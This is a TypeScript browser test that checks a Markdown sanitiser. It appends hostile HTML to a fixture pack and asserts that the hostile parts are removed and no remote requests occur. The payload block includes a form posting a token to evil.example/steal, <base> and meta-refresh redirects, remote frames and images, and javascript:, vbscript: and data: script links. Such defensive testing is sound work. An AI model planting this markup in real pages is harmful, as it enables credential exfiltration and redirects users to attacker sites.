// A pack's Markdown is not trusted: instructions that carry forms, <base>, frames,
// remote images and javascript: links reach the page without them, in a real Chromium
// against browser mode. The page's CSP would block most of these too; the sanitiser
// is the first line, so a CSP mistake alone cannot let them through.

import { appendFile, cp, mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumOrSkip } from './support/chromium';
import { repoRoot, screenshotOnFailure, startBrowserApp, type BrowserApp } from './support/browser-app';

const chromiumPath = chromiumOrSkip();
const FIXTURE = path.join(repoRoot, 'tests', 'fixtures', 'packs', 'fixture-basics');
const PIXEL = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

const HOSTILE = `

## Hostile HTML in a pack

<form action="https://evil.example/steal" method="post"><input name="token" value="x"><button formaction="https://evil.example/b">Send</button><select><option>a</option></select><textarea>t</textarea></form>

<base href="https://evil.example/">

<meta http-equiv="refresh" content="0; url=https://evil.example/">

<link rel="stylesheet" href="https://evil.example/style.css">

<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">

<style>body { background: url(https://evil.example/bg.png); }</style>

<img id="remote" src="https://evil.example/pixel.png"> <img id="protocol-relative" src="//evil.example/p.png"> <img id="backslashes" src="\\\\evil.example\\p.png">
<img id="srcset" src="${PIXEL}" srcset="https://evil.example/2x.png 2x"> <span id="styled" style="background-image: url(https://evil.example/s.png)">styled</span>
<svg><image id="svg-image" href="https://evil.example/svg.png"></image></svg>

<img id="inline" src="${PIXEL}" alt="an inline pixel"> <img id="bundled" src="favicon.svg" alt="a bundled file">

[a javascript: link](javascript:alert(1)) <a id="vb" href="vbscript:msgbox(1)">vb</a> <a id="data-link" href="data:text/html,<script>alert(1)</script>">data</a> [a fine link](https://docs.python.org/3/)
`;

describe.skipIf(chromiumPath === null)('the Markdown sanitiser', () => {
  let app: BrowserApp;
  let projectsRoot: string;
  const remoteRequests: string[] = [];

  beforeAll(async () => {
    projectsRoot = await mkdtemp(path.join(os.tmpdir(), 'buildpath-e2e-markdown-'));
    await cp(FIXTURE, path.join(projectsRoot, 'fixture-basics'), { recursive: true });
    await appendFile(path.join(projectsRoot, 'fixture-basics', 'milestones', '01-mean', 'instructions.md'), HOSTILE);
    app = await startBrowserApp(chromiumPath!, { projectsRoot });
    app.page.on('request', (request) => {
      if (!request.url().startsWith(app.server.url) && !request.url().startsWith('data:')) remoteRequests.push(request.url());
    });
  });

  screenshotOnFailure('markdown-sanitiser', () => app?.page);

  afterAll(async () => {
    await app?.close();
    await rm(projectsRoot, { recursive: true, force: true });
  });

  it('drops forms, <base>, <meta>, <link>, frames, <style>, remote images and script URLs, and keeps the rest', async () => {
    const { page } = app;
    await page.goto(`${app.server.url}#/p/fixture-basics/01-mean`);
    const instructions = page.getByTestId('instructions');
    await instructions.getByText('Hostile HTML in a pack').waitFor();

    const found = await instructions.evaluate((root) => ({
      forbidden: [...root.querySelectorAll('form, input, button, select, option, textarea, base, meta, link, iframe, frame, object, embed, style')].map((element) => element.tagName.toLowerCase()),
      images: [...root.querySelectorAll('img')].map((image) => ({ id: image.id, src: image.getAttribute('src'), srcset: image.getAttribute('srcset') })),
      svgImages: [...root.querySelectorAll('image')].map((image) => image.getAttribute('href') ?? image.getAttribute('xlink:href')),
      styled: root.querySelector('#styled')?.getAttribute('style') ?? null,
      links: [...root.querySelectorAll('a')].map((link) => link.getAttribute('href')),
      mathTypeset: root.querySelectorAll('.katex').length,
      mathStyled: root.querySelectorAll('.katex [style]').length,
      documentBase: document.baseURI,
    }));

    expect(found.forbidden).toEqual([]);
    expect(found.images).toEqual([
      { id: 'remote', src: null, srcset: null },
      { id: 'protocol-relative', src: null, srcset: null },
      { id: 'backslashes', src: null, srcset: null },
      { id: 'srcset', src: PIXEL, srcset: null },
      { id: 'inline', src: PIXEL, srcset: null },
      { id: 'bundled', src: 'favicon.svg', srcset: null },
    ]);
    expect(found.svgImages.filter((href) => href !== null)).toEqual([]);
    expect(found.styled).toBeNull();
    expect(found.links.filter((href) => href !== null)).toEqual(['https://docs.python.org/3/']);
    // KaTeX's output (inline styles without url()) survives.
    expect(found.mathTypeset).toBeGreaterThan(0);
    expect(found.mathStyled).toBeGreaterThan(0);
    expect(found.documentBase.startsWith(app.server.url)).toBe(true);
    expect(remoteRequests).toEqual([]);
  });
});
